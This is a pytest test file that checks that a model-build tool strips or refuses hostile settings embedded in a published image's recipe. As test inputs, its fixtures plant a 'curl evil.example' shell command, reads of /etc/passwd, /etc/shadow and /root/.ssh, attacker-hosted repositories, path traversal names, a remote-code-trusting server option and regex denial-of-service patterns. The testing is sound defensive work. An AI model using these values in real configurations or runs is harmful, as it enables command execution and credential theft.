"""The recipe that an image states, for `build --from`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from weightsmith.core.errors import InputRefused, UsageError
from weightsmith.oci.registry import Registry

from tests.fakes.journal import RecordingProgress
from tests.fakes.rebuilding import COMMIT, Scene
from tests.fakes.registry import FakeRegistry

HUB = f"hf://a/b@{COMMIT}"


@pytest.fixture
def scene(fake: FakeRegistry, client: Registry, tmp_path: Path) -> Scene:
    return Scene(fake, client, tmp_path)


def test_a_stated_recipe_names_no_push_target_program_or_file(scene):
    """A statement sets what is run, read or pushed here: none of it is taken, all is told."""

    def twist(recipe: dict[str, Any]) -> None:
        recipe["image"] = {"repository": "evil.example/x", "base": "evil.example/engine:1"}
        recipe["evaluate"] |= {
            "metric": "command",
            "command": ["sh", "-c", "curl evil.example"],
            "data": "/etc/passwd",
            "training": "/etc/shadow",
        }
        recipe["adapters"][0] |= {
            "evaluate": {"data": "x", "metric": "command", "command": ["sh"]},
            "source": "/root/.ssh",
            "revision": "main",
        }
        recipe["base"] |= {"source": "hf://evil/base", "revision": "main"}
        recipe["calibration"] = {"data": "/etc/passwd"}
        recipe["validate"] = {"enabled": False, "probes": "/etc/passwd"}
        recipe["quantize"] = {"imatrix": "/etc/passwd"}
        recipe["from_the_future"] = 1

    scene.publish(HUB, "hf://a/b", twist)
    told = RecordingProgress()
    file = scene.again(progress=told)
    recipe = file.recipe
    assert recipe.image.repository == recipe.image.base == ""
    assert not recipe.evaluate
    assert [(a.source, a.evaluate) for a in recipe.adapters] == [
        ("./adapters/0", ()),
        ("./adapters/1", ()),
    ]
    assert (recipe.base.source, recipe.base.revision) == ("hf://a/b", COMMIT)
    assert recipe.calibration is None
    assert recipe.validation.enabled
    assert recipe.quantize.imatrix == ""
    text = (file.folder / "recipe.yaml").read_text()
    assert not any(word in text for word in ("evil", "/etc", "/root", "future"))
    said = "\n".join(told.said)
    for key in ("image", "calibration", "validate", "from_the_future", "adapters[].evaluate"):
        assert key in said


def test_gates_that_a_stated_recipe_opens_are_told(scene):
    """A statement turns gates off: its makers may, for the same image, and nobody overlooks it."""

    def twist(recipe: dict[str, Any]) -> None:
        recipe["quality"] = {"gate": False, "limits": {"awq": {"kl_mean": 99}}}

    scene.publish(HUB, "hf://a/b", twist)
    told = RecordingProgress()
    scene.again(progress=told)
    said = "\n".join(told.said)
    assert "quality.gate: false, quality.limits, evaluate.max_drop: 0.2" in said


def test_options_of_the_server_that_reach_out_are_refused_by_name(scene):
    """A statement gives the server a path, a module or another model: each is named, exit 3."""
    reaching = {
        "media-path": "/",
        "middleware": ["evil.Middleware"],
        "load-format": "pt",
        "speculative-config": {"model": "evil/x", "trust_remote_code": True},
    }

    def twist(recipe: dict[str, Any]) -> None:
        recipe["serve"] = {"extra": {**reaching, "seed": 7}}

    scene.publish(HUB, "hf://a/b", twist)
    with pytest.raises(InputRefused) as caught:
        scene.again()
    for place in ("media-path", "middleware", "load-format", "speculative-config.model"):
        assert place in caught.value.message
    assert "seed" not in caught.value.message
    assert not (scene.folder / "dist").exists()

    mine = [f"serve.extra.{key}={json.dumps(value)}" for key, value in reaching.items()]
    with pytest.raises(InputRefused, match="middleware"):
        scene.again(settings=[*mine[:1], *mine[2:]])
    assert scene.again(settings=mine).recipe.serve.extra == {**reaching, "seed": 7}
    assert scene.again(settings=["serve.extra={}"]).recipe.serve.extra == {}
    with pytest.raises(InputRefused, match="speculative-config"):
        scene.again(settings=["serve.extra.speculative-config.model=mine", *mine[:3]])


@pytest.mark.parametrize(
    "twist",
    [
        lambda recipe: recipe.update(adapters="x"),
        lambda recipe: recipe.update(adapters=[1, 2]),
        lambda recipe: recipe.update(name="../../../root"),
        lambda recipe: recipe.update(version="1/../2"),
        lambda recipe: recipe.update(serve=["x"]),
        lambda recipe: recipe.update(serve={"gpu": {"a": 1}}),
        lambda recipe: recipe.update(quantize=7),
        lambda recipe: recipe.update(targets={"vllm": 1}),
        lambda recipe: recipe.update(merge={"method": "system"}),
        lambda recipe: recipe["adapters"][0].update(weight="much"),
        lambda recipe: recipe["evaluate"].update(max_drop="all"),
        lambda recipe: recipe.update(quantize={"tensor_types": {"(" * 3000 + ")" * 3000: "q8_0"}}),
        lambda recipe: recipe.update(quantize={"tensor_types": {"a{99999999999999999999}": "f16"}}),
    ],
)
def test_a_stated_recipe_of_other_types(scene, twist):
    """Values of other types, and names that leave their folder: the image is refused, exit 3."""
    scene.publish(HUB, "hf://a/b", twist)
    with pytest.raises(InputRefused, match="recipe"):
        scene.again()


@pytest.mark.parametrize(
    ("metric", "asked"),
    [
        ("regex", {"expected": ["(" * 3000 + ")" * 3000]}),
        ("regex", {"expected": ["a{99999999999999999999}"]}),
        ("choice", {"choices": ["A", "A"]}),
        ("contains", {"prompt": 5}),
        ("contains", {"messages": [{"role": "root", "content": "x"}]}),
        ("contains", {"expected": [5]}),
    ],
)
def test_questions_that_nobody_can_ask(scene, metric, asked):
    """The attached questions do not fit the metric, or Python cannot read a pattern: exit 3."""
    scene.publish(HUB, "hf://a/b", lambda recipe: recipe["evaluate"].update(metric=metric), asked)
    with pytest.raises(InputRefused, match="invalid questions"):
        scene.again()


@pytest.mark.parametrize("pin", ["hf://a/b@main", f"hf://a/b@{'g' * 40}", "pypi://a==1", "/etc"])
def test_a_stated_pin_that_is_none(scene, pin):
    """A base whose pin is no commit and no SHA-256 is asked for, and not fetched."""
    scene.publish(pin, "hf://a/b")
    with pytest.raises(UsageError, match="base") as caught:
        scene.again()
    assert "--base" in caught.value.hint
